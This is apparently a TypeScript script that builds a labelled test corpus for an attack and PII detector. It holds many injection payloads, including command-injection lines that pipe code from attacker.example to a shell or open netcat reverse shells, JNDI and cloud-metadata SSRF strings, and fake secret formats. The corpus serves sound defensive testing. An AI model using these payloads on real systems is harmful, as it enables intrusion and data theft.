// Builds the labelled corpus (test/corpus/attacks.json, test/corpus/pii.json) from hand-written seeds
// plus their encoded/obfuscated forms and generated PII with valid (and deliberately invalid) checksums.
// Deterministic: rerun with `node --import tsx test/corpus/build-corpus.ts` after editing the seeds.
import { writeFileSync } from "node:fs";

type AttackLabel = "sqli" | "xss" | "traversal" | "rfi" | "cmdi" | "ssrf" | "xxe" | "jndi" | "ssti" | "prototype_pollution" | "benign";
interface AttackSample { value: string; label: AttackLabel; form?: string }

const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
  sqli: [
    "' or 1=1--", "' OR '1'='1", "admin'--", "admin' #", "' or ''='", "1 OR 1=1", "1' ORDER BY 3--+", "' UNION SELECT NULL,NULL--",
    "-1 UNION ALL SELECT username,password FROM users--", "1; DROP TABLE users--", "'; EXEC xp_cmdshell('whoami')--",
    "1 AND SLEEP(5)", "1' AND SLEEP(5)#", "1) OR (1=1", "') OR ('a'='a", "\" OR \"\"=\"", "' AND 1=CONVERT(int,@@version)--",
    "'; exec master..xp_cmdshell 'ping attacker.example'--", "1 into outfile '/var/www/html/s.php'",
    "1 AND extractvalue(1,concat(0x7e,(SELECT user())))", "1 AND updatexml(1,concat(0x7e,version()),1)", "' OR 1=1 LIMIT 1 -- -",
    "1'; WAITFOR DELAY '0:0:5'--", "1 UNION/**/SELECT/**/1,2,3", "1/*!50000UNION*/ /*!50000SELECT*/ 1,2", "' or true--",
    "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "1' and benchmark(10000000,md5(1))--", "'||pg_sleep(5)--",
    "' GROUP BY columnnames having 1=1 --", "' or username like '%admin%'--", "1 or 1=1#", "0x50 or 1=1", "') union select 1,load_file('/etc/passwd')--",
    "1' AND 1=1 AND 'a'='a", "admin' or '1'='1'/*", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "' HAVING 1=1--", "x' AND email IS NULL; --",
    "' or 1=1 limit 1;#", "1;select pg_sleep(10)", "'+(select*from(select(sleep(5)))a)+'", "admin\"--",
    "uid=12 or 3=3", "/api/orders?status=2 or 7=7", "-8#c\nunion select 1,2", "x' and(4=4)--",
    // libinjection's samples: an expression after a closed string, constants compared after AND/OR, comments between
    // the words, SQL after a long padding of numbers.
    "aa' LIKE md5(1) or '1", "asd\"or-1=\"-1", "HOPE AND 8=3", "FOO) AND 4499=8923#", "1#\nAND#\n9227=9227", "1 GROUP BY 1 HAVING 1 = 1",
    "999),(1,2,3,4,5,6,7,8,9,10,11,12,(SELECT IF ((ASCII(SUBSTRING(admin_pw,1,1)='1') & 1, benchmark(20000,CHAR(0)),0) FROM se_games))/*",
    // MongoDB operators where a value belongs; a catalog or the database's name probed alone.
    "password[$ne]=x", "{\"$where\": \"sleep(100)\"}", "user[$regex]=^adm", "database()", "@@version",
    // PostgreSQL JSON operators and casts.
    "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb", "OR '[1,2,3]'::json ->> 2='3'",
  ],
  xss: [
    "<q:script xmlns:q=\"http://www.w3.org/1999/xhtml\">alert(8)</q:script>", "width:5px;background:url(javascript:alert(6))", "self['prompt'](2)", "(![]+[])[+[]]", "+ADw-svg onload=alert(4)+AD4-",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "javascript:alert(document.cookie)", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>", "\" onmouseover=\"alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('XSS')>", "<a href=\"javascript:alert(1)\">click</a>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<div style=\"width: expression(alert(1))\">", "<marquee onstart=alert(1)>", "' autofocus onfocus='alert(1)", "<embed src=javascript:alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>", "javascript&colon;alert(1)", "\"><svg onload=confirm`1`>", "<x onclick=alert(1)>click", "<scr<script>ipt>alert(1)</script>", "<base href=\"javascript:alert(1)//\">",
    // Script calls alone, a tagged template, CSS escapes and comments, a stylesheet from elsewhere, data binding.
    "alert(1)", "eval(atob('YWxlcnQoMSk='))", "[].sort.call`${alert}1`", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>", "<link rel=stylesheet href=//evil.example/x.css>", "<span datasrc=#x datafld=b dataformatas=html>",
  ],
  traversal: [
    "/proc/self/cwd/app.py", "/etc/sudoers",
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "/var/www/../../etc/shadow",
    "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/proc/self/environ", "..;/..;/admin",
    "../../../../../../boot.ini", "....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts", "phar://uploads/avatar.jpg/shell",
    "../../WEB-INF/web.xml", "/.git/config", "C:\\Windows\\System32\\config\\SAM", "zip://shell.jpg#payload.php", "../../.env",
  ],
  rfi: [
    "http://evil.example/shell.txt?", "https://attacker.example/c99.php", "http://198.51.100.7/x.txt??", "ftp://evil.example/backdoor.php",
    "http://evil.example/inc.txt?cmd=id?", "\\\\attacker.example\\share\\shell.php",
  ],
  cmdi: [
    "|system('whoami')", ";popen('id', 'r')", "sh -c \"cat /etc/group\"", "more /[e]tc/[!z]asswd", "x\nvisudo -f /etc/sudoers",
    "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "127.0.0.1; ls -la", "127.0.0.1 && cat /etc/shadow", "x || ping -c 3 attacker.example",
    "; wget http://attacker.example/s.sh -O /tmp/s.sh", "$(curl -s http://attacker.example/x|sh)", "1;c'a't${IFS}/etc/passwd", "a;/bin/sh -i",
    "| nc -e /bin/sh attacker.example 4444", "\nid\n", "& ping -n 5 127.0.0.1 &", "; powershell -enc SQBFAFgA", "|certutil -urlcache -f http://x/p.exe p.exe",
    "127.0.0.1|whoami", "test; uname -a", "; sleep 10",
    // PHP, Node.js and Windows batch code; commands run through another; an alias defined.
    "eval(base64_decode('cGhwaW5mbygpOw=='))", "$_SERVER['HTTP_USER_AGENT']", "shell_exec /**/ ('id')", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "process.mainModule.require('child_process').execSync('id')", "FOR /F \"delims=\" %G IN ('whoami') DO @echo %G", "IF EXIST C:\\boot.ini echo found",
    "strace ifconfig", "nohup nc -e /bin/sh attacker.example 4444", "alias ls='rm -rf /tmp/x'",
    // PowerShell fetching and running code; a command named as a call's bare argument.
    "Invoke-WebRequest http://attacker.example/p.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')", "system(whoami)",
    // Blind and file-based probes as commix builds them: a test and a timer, output written into the web root, ^Z as
    // a separator, unset variables and cmd.exe carets inside names, the whole value hex-encoded.
    "1;if [ 4 -eq $(echo ABCD|wc -c) ];then sleep 5;fi", "1\necho JQKZTP > /var/www/html/JQKZTP.txt", "1\u001aid", "1;${ZZ}wh${ZZ}oami",
    "1&c^md /c \"wh^oami\"",
  ],
  prototype_pollution: [
    "__proto__[isAdmin]=true", "constructor[prototype][isAdmin]=true", "__proto__.polluted", "constructor.prototype.toString", "a[__proto__][x]=1",
  ],
  ssrf: [
    "sftp://203.0.113.5/x", "http://6442450943/", "http:169.254.169.254/latest", "http://0x1a9fea9fe/", "http://[::ffff:a9fe:a9fe]/",
    "localhost/admin", "host.docker.internal/", "kubernetes.default.svc/api",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
    "http://localhost:6379/", "http://127.0.0.1:8080/admin", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f000001/", "http://0x7f.0x0.0x0.0x1/",
    "http://10.0.0.12/internal", "http://192.168.1.1/", "http://172.16.5.4:9200/_cat/indices", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats",
    "http://user:pass@127.0.0.1/", "http://[::1]:22/", "http://[::ffff:127.0.0.1]/", "http://169.254.169.254.nip.io/", "http://0/", "http://127.1/",
    "http://100.100.100.200/latest/meta-data/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://017700000001/", "https://kubernetes.default.svc.cluster.internal/",
  ],
  xxe: [
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "<!DOCTYPE data [<!ENTITY % remote SYSTEM \"http://attacker.example/x.dtd\"> %remote;]>", "<!DOCTYPE foo SYSTEM \"http://attacker.example/evil.dtd\"><foo/>",
    "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
  ],
  jndi: [
    "$&lbrace;jndi:ldap://evil.example/a&rbrace;",
    "${env:AWS_SESSION_TOKEN}", "${sys:java.class.path}", "${java:hw}",
    "${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/obj}", "${jndi:dns://attacker.example}", "${${lower:j}ndi:${lower:l}dap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
    "${jNdI:LdAp://x/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://x}", "${${lower:${lower:jndi}}:ldap://x}", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x}", "Mozilla/5.0 ${jndi:ldap://x/ua}", "${j${k8s:k5:-ND}i:ldap://x}",
  ],
  ssti: [
    "${applicationScope}", "#{facesContext.externalContext}", "{{#with split as |list|}}{{this.pop}}{{/with}}", "@{[ system 'id' ]}",
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{% import os %}{{os.system('id')}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "{{lipsum.__globals__.os.popen('id').read()}}",
  ],
};

// Benign values, including the near misses the issue names (prose with SQL words, names with quotes, code fences).
const benign: string[] = [
  "select a drop-off point", "O'Brien", "if [ draft ] then ship", "price > 100 and rising", "Hello ${name}!",  "48656c6c6f20776f726c6421", "Please select an option from the list below", "Mc'Donald and O'Neil", "It's 1 or 2 days away",
  "Bob's burgers; and fries", "```sql\nSELECT * FROM users WHERE id = 1;\n```", "union station", "I'd like to drop by tomorrow",
  "rock 'n' roll", "Delete my account please", "1-800-FLOWERS", "and/or", "v1.2.3", "Tom & Jerry", "salt & pepper", "R&D department",
  "a < b and c > d", "I <3 cats", "Click on the button to continue", "<b>bold</b> and <i>italic</i>", "docs/readme.md", "Wait... what?",
  "/api/v1/users/42", "https://example.com/products?id=5", "https://api.github.com/repos/acme/app", "http://8.8.8.8/", "Hello {{name}}",
  "{\"a\":1}", "${HOME}/bin", "The price is $(5) today", "2 + 2 = 4", "email me at alice@example.com", "Order #12345 shipped",
  "SELECT your seat from the map", "Where do I drop off my keys?", "She said \"hello\" and left", "Use the /etc directory for config",
  "cat and dog", "ls -la shows hidden files", "price>10 and price<20", "can be \"<\", \"<=\", \">\" or \">=\"", "x = convert(body)", "Ping me when you're done", "Let's meet at 10:00; bring the docs", "C:\\Users\\alice\\Documents",
  "Fish & chips | £5", "The <script> tag is described in chapter 3", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
  "en-US,en;q=0.9", "gzip, deflate, br", "session=abc123; theme=dark", "Bearer eyJhbGciOiJIUzI1NiJ9", "max-age=3600", "text/html; charset=utf-8",
  "John O'Reilly-Smith", "100% cotton", "50% off -- today only", "1=1 is a tautology in logic class", "or else", "null", "true", "1234",
  "user_id=42", "The union of two sets", "from A to B", "#hashtag", "--verbose", "Pay $5 & get 1 free",
  "What's your name?", "He's 6' 2\"", "Rock & Roll Hall of Fame", "Q&A session", "AT&T", "x=1&y=2", "https://example.com/a?on=1",
  "<p>Thanks for your order!</p>", "<a href=\"https://example.com\">link</a>", "SELECT", "Drop table tennis practice is on Monday",
  "update: shipped", "insert coin", "exec summary attached", "Sleep well", "waitfor it", "Be there or be square", "1 or more items",
  "localhost is fine for development", "see 10.0.0.1 in the docs", "file.tar.gz", "photo.jpeg", "Mr. & Mrs. Smith",
  "#{name}", "{{ user.name }}",
  "<iframe src=\"https://www.youtube.com/embed/aBcD1234567\" width=\"560\" height=\"315\" frameborder=\"0\" allowfullscreen></iframe>",
  "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":\"Organization\",\"name\":\"Acme\"}</script>",
  "Team,\nfind the notes attached.\nmore soon", "Check the `limit` setting first", "```sh\nyarn add lodash\n```", "<a href=\"#pricing\">Pricing</a>", "Item \"#4 pencil\" restocked",
  "<?xml version=\"1.0\" encoding=\"UTF-8\"?><invoice><total>12.50</total></invoice>", "Ben&nbsp;&amp;&nbsp;Jerry's&nbsp;ice cream", "I love O'Reilly books", "SELECT your preferred size", "email me; thanks", "50% off | today",
  "time flies like an arrow", "sudo make me a sandwich", "the child process exited", "if not defined by the user the default is set",
  "for each item in (list) do it", "process.env.NODE_ENV", "A constructor sets up the prototype chain.", "export into outfile later", "Password is required",
  "unserialize the payload (JSON) first", "call (user) func", "the information_schema database lists tables", "alias for the user", "timeout 30 seconds",
  "https://localhost.example.com/", "Dear Sir/Madam, please find attached", "Q: what's 2*3? A: 6", "if (a < b) { return a; }", "<%= title %>", "${price}", "Tom's; Jerry's", "Meet me @ 5pm", "ID: 12-34-56",
  "Set an alert (daily)", "please confirm your email", "res.setTimeout(10000)", "$text = \"hi\"", "C:\\styles\\main.css", "<link rel=\"stylesheet\" href=\"/css/site.css\">",
  "the information_schema database", "costs $in total", "the Invoke-WebRequest cmdlet is documented here", "our system(id card) policy", "localhost:3000", "10.0.0.0/8",
];

function urlEncodeAll(s: string): string { return [...Buffer.from(s)].map((b) => "%" + b.toString(16).toUpperCase().padStart(2, "0")).join(""); }
function urlEncodeSpecial(s: string): string { return encodeURIComponent(s).replace(/'/g, "%27").replace(/\(/g, "%28").replace(/\)/g, "%29"); }
function htmlEntities(s: string): string { return s.replace(/[<>"']/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`); }
function mixedCase(s: string): string { let i = 0; return s.replace(/[a-z]/gi, (c) => (i++ % 2 ? c.toUpperCase() : c.toLowerCase())); }

const attacks: AttackSample[] = [];
for (const [label, list] of Object.entries(seeds) as Array<[AttackLabel, string[]]>) {
  for (const v of list) {
    attacks.push({ value: v, label, form: "raw" });
    attacks.push({ value: urlEncodeSpecial(v), label, form: "url" });
    attacks.push({ value: urlEncodeSpecial(urlEncodeSpecial(v)), label, form: "double-url" });
    if (label === "sqli" || label === "cmdi") attacks.push({ value: mixedCase(v), label, form: "mixed-case" });
    if (label === "xss") attacks.push({ value: htmlEntities(v), label, form: "html-entities" });
    if (label === "traversal" && v.includes("../")) attacks.push({ value: urlEncodeAll(v), label, form: "url-all" });
  }
}
for (const v of benign) {
  attacks.push({ value: v, label: "benign", form: "raw" });
  attacks.push({ value: urlEncodeSpecial(v), label: "benign", form: "url" });
}
// Rows added with later rules (they were appended to attacks.json by hand, which a rebuild dropped): each
// value raw and URL-encoded with every reserved byte encoded, '*' and '!' too.
const pairRows: Array<[AttackLabel, string]> = [
  ["cmdi", "$y = 'sys'.'tem';($y)('uname');"],
  ["cmdi", "Ev al (\"Ex\"&\"e\"&\"cute(\"\"Server.ScriptTimeout=3600\""],
  ["cmdi", "'pass' . 'thru'"],
  ["cmdi", "[system][0](ls);"],
  ["cmdi", "(/* comment */system)(ls);"],
  ["sqli", "9999 or {if length((/*!50000select username/*!50000from*/user))>0}"],
  ["sqli", "execute immediate 'drop table users'"],
  ["sqli", "DECLARE/**/@x"],
  ["sqli", "exec master..xp_dirtree '//attacker.example/a'"],
  ["sqli", "unistr(password)::int"],
  ["sqli", "lo_import('/etc/passwd')"],
  ["sqli", "information_schema"],
  ["sqli", "procedure analyse ("],
  ["xss", "¼script¾alert(1)¼/script¾"],
  ["xss", "STYLE=X:URL(JAVASCRIPT"],
  ["xss", "&gt%3B+src+onerror=confirm&amp%3Blpar%3B1&amp%3Brpar%3B&lt%3B"],
  ["xxe", "<xs:include schemaLocation=\"http://attacker.example/x.xsd\"/>"],
  ["benign", "'sys' 'admin' team"],
  ["benign", "see [exec] (below)"],
  ["benign", "Foo::Text and std::string"],
  ["benign", "price::numeric is a cast"],
  ["benign", "we declare @home tonight"],
  ["benign", "the information_schema database lists tables"],
  ["benign", "¼ cup sugar and ¾ cup flour"],
  ["benign", "Javascript: the good parts"],
  ["benign", "<xs:include schemaLocation=\"common.xsd\"/>"],
  // From real logs (eighteenth session): CSIC 2010, sqlmap's boundaries, Nessus's probes, xssed.com's reports, and
  // the look-alikes of those rules.
  ["sqli", "'OR'a='a"],
  ["sqli", "1es8r59z6' DELETE FROM USERS"],
  ["sqli", "))/**/aNd/**/8823=6740/**/aNd/**/((3350=3350"],
  ["sqli", "')/**/orDer/**/bY/**/1--/**/xqoL"],
  ["sqli", "-5830\")/**/WHere/**/5397=5397/**/Or/**/9407=9407--/**/qyEa"],
  ["sqli", "ORDER BY SLEEP(5)"],
  ["sqli", "select current_user;"],
  ["sqli", "1' in boolean mode) and 5725=5552#"],
  ["sqli", "iif(3204=8489,3204,1/0)"],
  ["sqli", "9999 or /*+optimizer hint */ true"],
  ["cmdi", "uname >q63592644 #"],
  ["cmdi", "\"del q85487167&rem "],
  ["cmdi", "0).system('id').("],
  ["cmdi", "function(x){ return(system(paste('id'), intern = T))}"],
  ["cmdi", "${SHELL} -c \"echo hi\""],
  ["xss", "'\"/><img>"],
  ["xss", "- 0 --><img>"],
  ["xss", "\"javascript:alert(cross_site_scripting.nasl);\">"],
  ["benign", "javascript:;"],
  ["benign", "javascript:void(0)"],
  ["benign", "Select user"],
  ["benign", "2 or 3"],
  ["benign", "type your message #"],
  ["benign", "curl 2.x"],
  ["benign", "it's where i live"],
  ["benign", "Select distinct colors from the palette"],
  ["benign", "A --> B"],
  ["benign", "5\"> <3"],
  // sqlmap's tamper scripts (nineteenth session): comment lines as blanks, comments before a call, BETWEEN,
  // MySQL's ELT and GET_LOCK, IIS's dropped '%'; SSRF through wildcard DNS names spelled with dashes or in hex; and
  // the look-alikes of those rules.
  ["sqli", ")#ngrok\nAnD#ngrok\n3548=4872--#ngrok\nufKt"],
  ["sqli", " AND MAKE_SET/**/(1167=4814,4814)"],
  ["sqli", ") HAVING 6567 BETWEEN 8791 AND 8791-- wTJY"],
  ["sqli", " AND GET_LOCK('ETgP',5)"],
  ["sqli", "') %A%N%D %7%4%1%0=%7%4%1%0-- -"],
  ["ssrf", "http://app-10-0-0-1.sslip.io/admin"],
  ["ssrf", "http://a9fea9fe.sslip.io/latest/meta-data/"],
  ["benign", "#sunset\nand a view"],
  ["benign", "Prices between 5 and 10 dollars"],
  ["benign", "ELT (extract, load, transform)"],
  ["benign", "100% sure, %d items"],
  ["benign", "https://my-app-1-2.sslip.io/"],
  ["ssti", "@(1337*1337)"],
  ["ssti", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"],
  ["benign", "Posted @(2026-11-20) by admin@example.com (3*4 photos)"],
];
function urlEncodeReserved(s: string): string { return urlEncodeSpecial(s).replace(/\*/g, "%2A").replace(/!/g, "%21"); }
for (const [label, v] of pairRows) {
  attacks.push({ value: v, label, form: "raw" });
  attacks.push({ value: urlEncodeReserved(v), label, form: "url" });
}

// ---- PII ----------------------------------------------------------------------------------------------------
type PiiLabel = "card" | "ssn" | "iban" | "email" | "phone" | "ipv4" | "ipv6" | "jwt" | "secret" | "password" | "dob" | "none";
interface PiiSample { value: string; key: string; label: PiiLabel; number?: boolean }

let seed = 0x9e3779b9;
function rand(): number { seed ^= seed << 13; seed >>>= 0; seed ^= seed >>> 17; seed ^= seed << 5; seed >>>= 0; return seed / 0x100000000; }
function digits(n: number): string { let s = ""; for (let i = 0; i < n; i++) s += Math.floor(rand() * 10); return s; }
function luhnCheck(body: string): number {
  let sum = 0;
  for (let i = 0; i < body.length; i++) { let d = +body[body.length - 1 - i]; if (i % 2 === 0) { d *= 2; if (d > 9) d -= 9; } sum += d; }
  return (10 - (sum % 10)) % 10;
}
function card(prefix: string, len: number): string { const body = prefix + digits(len - prefix.length - 1); return body + luhnCheck(body); }
function badLuhn(c: string): string { const last = +c[c.length - 1]; return c.slice(0, -1) + ((last + 1) % 10); }
function grouped(c: string, sep: string): string { return c.length === 15 ? `${c.slice(0, 4)}${sep}${c.slice(4, 10)}${sep}${c.slice(10)}` : c.match(/.{1,4}/g)!.join(sep); }
function mod97(s: string): number { let r = 0; for (const ch of s) { const v = /[0-9]/.test(ch) ? ch : String(ch.charCodeAt(0) - 55); for (const d of v) r = (r * 10 + +d) % 97; } return r; }
function iban(country: string, bbanLen: number): string {
  const bban = digits(bbanLen);
  const check = 98 - mod97(bban + country + "00");
  return country + String(check).padStart(2, "0") + bban;
}
function ean13(): string { const b = "40" + digits(10); let s = 0; for (let i = 0; i < 12; i++) s += +b[i] * (i % 2 ? 3 : 1); return b + ((10 - (s % 10)) % 10); }
function b64url(o: object): string { return Buffer.from(JSON.stringify(o)).toString("base64url"); }

const pii: PiiSample[] = [];
const issuers: Array<[string, number]> = [["4", 16], ["51", 16], ["55", 16], ["2221", 16], ["2720", 16], ["34", 15], ["37", 15], ["6011", 16], ["65", 16], ["3528", 16], ["3589", 16], ["36", 14], ["62", 16], ["4", 13]];
for (let round = 0; round < 4; round++) {
  for (const [p, len] of issuers) {
    const c = card(p, len);
    pii.push({ value: c, key: round % 2 ? "card_number" : "value", label: "card" });
    if (len >= 15) pii.push({ value: grouped(c, round % 2 ? " " : "-"), key: "note", label: "card" });
    if (round === 0) pii.push({ value: c, key: "pan", label: "card", number: true });
    pii.push({ value: badLuhn(c), key: "card", label: "none" });
  }
}
for (let i = 0; i < 24; i++) {
  const area = 1 + Math.floor(rand() * 664); const a = String(area === 666 ? 665 : area).padStart(3, "0");
  const ssn = `${a}-${String(1 + Math.floor(rand() * 98)).padStart(2, "0")}-${String(1 + Math.floor(rand() * 9998)).padStart(4, "0")}`;
  pii.push({ value: ssn, key: i % 2 ? "ssn" : "text", label: "ssn" });
}
for (const bad of ["000-12-3456", "666-12-3456", "912-34-5678", "123-00-4567", "123-45-0000"]) pii.push({ value: bad, key: "ssn", label: "none" });
for (const [cc, len] of [["DE", 22], ["GB", 22], ["FR", 27], ["ES", 24], ["NL", 18], ["IT", 27], ["BE", 16], ["CH", 21]] as Array<[string, number]>) {
  // GB and NL have letters in the BBAN: use digits-only BBAN lengths that fit the country length for the test.
  const v = cc === "GB" ? (() => { const bban = "NWBK" + digits(14); const check = 98 - mod97(bban + "GB00"); return "GB" + String(check).padStart(2, "0") + bban; })()
    : cc === "NL" ? (() => { const bban = "ABNA" + digits(10); const check = 98 - mod97(bban + "NL00"); return "NL" + String(check).padStart(2, "0") + bban; })()
    : iban(cc, len - 4);
  pii.push({ value: v, key: "iban", label: "iban" });
  pii.push({ value: v.match(/.{1,4}/g)!.join(" "), key: "account", label: "iban" });
  pii.push({ value: v.slice(0, 2) + String((+v.slice(2, 4) + 1) % 100).padStart(2, "0") + v.slice(4), key: "iban", label: "none" });
}
for (const e of ["alice@example.com", "bob.smith+news@mail.example.co.uk", "x_y-z@sub.domain.io", "first.last@company.org", "user123@gmail.com", "a@b.co"]) pii.push({ value: e, key: "contact", label: "email" });
for (const e of ["not-an-email", "user@localhost", "@example.com", "user@", "a@b", "foo@bar@baz.com"]) pii.push({ value: e, key: "contact", label: "none" });
for (const p of ["+14155552671", "+44 20 7946 0958", "+49 30 901820", "(415) 555-2671", "415-555-2671", "+33 1 23 45 67 89"]) pii.push({ value: p, key: "phone", label: "phone" });
for (const p of ["+14155552671", "+44 20 7946 0958"]) pii.push({ value: p, key: "value", label: "phone" });
for (const ip of ["192.168.1.10", "10.0.0.1", "8.8.8.8", "203.0.113.7", "172.16.254.1"]) pii.push({ value: ip, key: "client_ip", label: "ipv4" });
for (const ip of ["2001:db8::1", "fe80::1ff:fe23:4567:890a", "2001:0db8:85a3:0000:0000:8a2e:0370:7334"]) pii.push({ value: ip, key: "addr", label: "ipv6" });
for (const v of ["1.2.3", "10.2.3.4.5", "256.1.1.1", "1.2.3.4-beta", "3.10.2"]) pii.push({ value: v, key: "version", label: "none" });
for (const v of ["1.2.3", "256.1.1.1"]) pii.push({ value: v, key: "value", label: "none" });
for (let i = 0; i < 4; i++) {
  const jwt = `${b64url({ alg: "HS256", typ: "JWT" })}.${b64url({ sub: digits(6), name: "x", iat: 1700000000 + i })}.${Buffer.from(digits(32)).toString("base64url")}`;
  pii.push({ value: jwt, key: "token", label: "jwt" });
}
pii.push({ value: `${b64url({ foo: "bar" })}.${b64url({ a: 1 })}.c2ln`, key: "token", label: "none" });
pii.push({ value: "aaa.bbb.ccc", key: "token", label: "none" });
const secrets = [
  "AKIA" + "Q7LMZ2HNVW4TXKRB", "ghp_" + "1234567890abcdefghijklmnopqrstuvwxyzAB".slice(0, 36), "glpat-" + "abcdefghij1234567890", "xoxb-" + "123456789012-1234567890123-abcdefghijklmnopqrstuvwx",
  "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "AIza" + "SyA1234567890abcdefghijklmnopqrstuv", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----",
  // The formats of gitleaks' rules for these providers, beyond the first ones: more AWS key id kinds, Amazon
  // Bedrock keys, GitLab's routable, agent and registration tokens, Slack configuration tokens and workflow
  // webhooks, Stripe's prod keys.
  "ABIA" + "VW3XQ5M7ZT2PLKRN", "ACCA" + "6JH4TQ2ZLMX7WPRV", "A3TX" + "J2KMQ7ZRW5TLPVNB",
  "ABSK" + "QmVkcm9ja0FQSUtleS1" + "k3R9xqPzL2mWvT8sYb4N".repeat(5) + "Hq7Jd=", "bedrock-api-key-" + "YmVkcm9jay5hbWF6b25hd3MuY29t" + "L3D9x+qPzL2mW/vT8sYb4NkR".repeat(3),
  "glpat-" + "k3R9xqPzL2mWvT8sYb4NHq7Jd_a" + ".01" + "b7x2k9q", "glrt-t" + "1_" + "Zk3R9xqPzL2mWvT8sYb4NHq7Jd2" + ".01" + "c8v3m1z", "glagent-" + "Xq7Jd2k3R9xqPzL2mWvT8sYb4N".repeat(2),
  "GR1348941" + "mWvT8sYb4NHq7Jd2k3R9", "xoxe.xoxp-1-" + "4ev6Bfxz45RSqMRyhj34u3raXVMff2j62LiAQGVIcIMH63yNzmSecD82hUMkKgiet87fBrcSuAXkSiSCpJ".repeat(2),
  "https://hooks.slack.com/workflows/" + "T04MCQMEXQ9/A05K2L9QW7A/4821902359/7Zx9kQpLm2VbR4tYw8NcH3sJ", "sk_prod_" + "YIemV66Oy6sHcRsKBpcI4hhavk",
];
for (const s of secrets) pii.push({ value: s, key: "config", label: "secret" });
// Placeholders and templates that have a token's format only (documentation, redacted samples): not secrets.
for (const s of ["AKIA" + "IOSFODNN7EXAMPLE", "AKIA" + "XXXXXXXXXXXXXXXX", "ghp_" + "x".repeat(36), "glpat-" + "XXXXXXXXXXX-XXXXXXXX", "sk_live_" + "0".repeat(24),
  "xoxb-" + "xxxxxxxxx-xxxxxxxxxx-xxxxxxxxxxxx", "https://hooks.slack.com/services/T00000000/B00000000/" + "X".repeat(24), "AIza" + "a".repeat(35),
  "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----\nXXXX\nXXXX\n-----END OPENSSH PRIVATE KEY-----",
  "xoxo-hugs-and-kisses-from-all-of-us"]) pii.push({ value: s, key: "config", label: "none" });
for (const s of ["hunter2", "correct horse battery staple"]) pii.push({ value: s, key: "password", label: "password" });
for (const s of ["1990-04-12", "12/04/1990"]) pii.push({ value: s, key: "date_of_birth", label: "dob" });
// Near misses: order ids, EAN barcodes, IMEIs, version strings, timestamps, UUIDs, prices.
for (let i = 0; i < 10; i++) pii.push({ value: ean13(), key: i % 2 ? "ean" : "gtin", label: "none" });
for (let i = 0; i < 6; i++) { const b = "35" + digits(12); pii.push({ value: b + luhnCheck(b), key: "imei", label: "none" }); }
for (let i = 0; i < 10; i++) pii.push({ value: "ORD-" + digits(10), key: "order_id", label: "none" });
for (let i = 0; i < 6; i++) pii.push({ value: digits(16), key: "order_id", label: "none" });
for (let i = 0; i < 6; i++) pii.push({ value: String(1700000000000 + Math.floor(rand() * 1e9)), key: "timestamp", label: "none", number: true });
